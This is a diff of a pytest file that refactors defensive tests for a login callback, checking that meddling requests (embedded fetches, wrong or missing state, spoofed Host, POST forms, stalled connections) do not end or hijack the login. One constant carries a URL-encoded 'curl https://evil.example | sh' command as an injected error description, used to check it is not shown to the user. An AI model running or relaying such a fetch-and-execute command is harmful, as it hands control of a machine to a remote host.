@@ -7,14 +7,14 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from tests.faults.case import fault
-from tests.harness import LOGGED_IN
+from tests.faults.case import fault, injects
+from tests.harness import LOGGED_IN, SECONDS
+from tests.sandbox.browser import Browser
 
 
 WORDS = 'Run%3A+curl+https%3A%2F%2Fevil.example+%7C+sh'
 ERROR = f'?error=access_denied&error_description={WORDS}'
-OF_A_PAGE = 'Sec-Fetch-Mode: {}\r\nSec-Fetch-Dest: {}\r\n'
-NAVIGATION = OF_A_PAGE.format('navigate', 'document')
+PERSON = 'navigate document'
 
 
 @pytest.fixture
@@ -25,45 +25,36 @@ def login(case):
         yield terminal
 
 
-def connect(case):
-    callback = urlsplit(case.client.redirect_uri)
-    return socket.create_connection((callback.hostname, callback.port))
+def meddling(name, fetch='', query=ERROR, method='GET', **headers):
+    """Return what a browser sends that fetches something for a page.
 
-
-def meddling(name, query=ERROR, fields='', method='GET', host=None):
-    values = query, fields, method, host
+    :param fetch: the fields Sec-Fetch-Mode and Sec-Fetch-Dest
+    """
+    if fetch:
+        mode, kind = fetch.split()
+        headers |= {'Sec-Fetch-Mode': mode, 'Sec-Fetch-Dest': kind}
+    values = method, query, headers
     return fault(f'callback: {name}', 'the login goes on', *values)
 
 
 @pytest.mark.parametrize(
-    ('query', 'fields', 'method', 'host'),
+    ('method', 'query', 'headers'),
     [
-        meddling('an image of a web page',
-                 fields=OF_A_PAGE.format('no-cors', 'image')),
-        meddling('a script of a web page',
-                 fields=OF_A_PAGE.format('cors', 'empty')),
-        meddling('a frame of a web page',
-                 fields=OF_A_PAGE.format('navigate', 'iframe')),
-        meddling('the state of another login', '?code=abc&state=another',
-                 NAVIGATION),
-        meddling('no state', '?code=abc', NAVIGATION),
-        meddling('another host name', host='evil.example'),
-        meddling('a form', method='POST', fields=NAVIGATION),
+        meddling('an image of a web page', 'no-cors image'),
+        meddling('a script of a web page', 'cors empty'),
+        meddling('a frame of a web page', 'navigate iframe'),
+        meddling('the state of another login', PERSON, '?code=a&state=other'),
+        meddling('no state', PERSON, '?code=abc'),
+        meddling('another host name', Host='evil.example'),
+        meddling('a form', PERSON, method='POST'),
     ],
-)  # fmt: skip
+)
 def test_who_meddles_does_not_end_the_login(
-    case, login, query, fields, method, host
+    case, login, method, query, headers
 ):
-    address, callback = login.address, urlsplit(case.client.redirect_uri)
-    request = (
-        f'{method} {callback.path}{query} HTTP/1.1\r\n'
-        f'Host: {host or callback.netloc}\r\n{fields}'
-        'Content-Length: 0\r\nConnection: close\r\n\r\n'
-    )
-    with connect(case) as wire:
-        wire.sendall(request.encode())
-        while wire.recv(65536):
-            pass
+    address, url = login.address, case.client.redirect_uri + query
+    with Browser() as browser:
+        browser.request(method, url, headers=headers, timeout=SECONDS)
     login.type(case.wiki.approve(address) + '\n')
     shown = login.wait()
     assert LOGGED_IN in shown
@@ -71,9 +62,7 @@ def test_who_meddles_does_not_end_the_login(
     case.goes_on()
 
 
-@pytest.mark.fault(
-    'callback: a denial without state', 'ends the login, quoting nothing'
-)
+@injects('callback: a denial without state', 'ends the login, quoting nothing')
 def test_a_denial_without_a_state_is_not_quoted(case, login):
     assert login.address
     login.type(f'{case.client.redirect_uri}{ERROR}\n')
@@ -84,10 +73,11 @@ def test_a_denial_without_a_state_is_not_quoted(case, login):
     case.goes_on()
 
 
-@pytest.mark.fault('callback: a request that never ends', 'the login goes on')
+@injects('callback: a request that never ends', 'the login goes on')
 def test_a_request_that_never_ends_holds_nothing_up(case, login):
-    address = login.address
-    with connect(case) as wire:
+    address, callback = login.address, urlsplit(case.client.redirect_uri)
+    place = callback.hostname, callback.port
+    with socket.create_connection(place) as wire:
         wire.sendall(b'GET /')
         login.type(case.wiki.approve(address) + '\n')
         assert LOGGED_IN in login.wait()
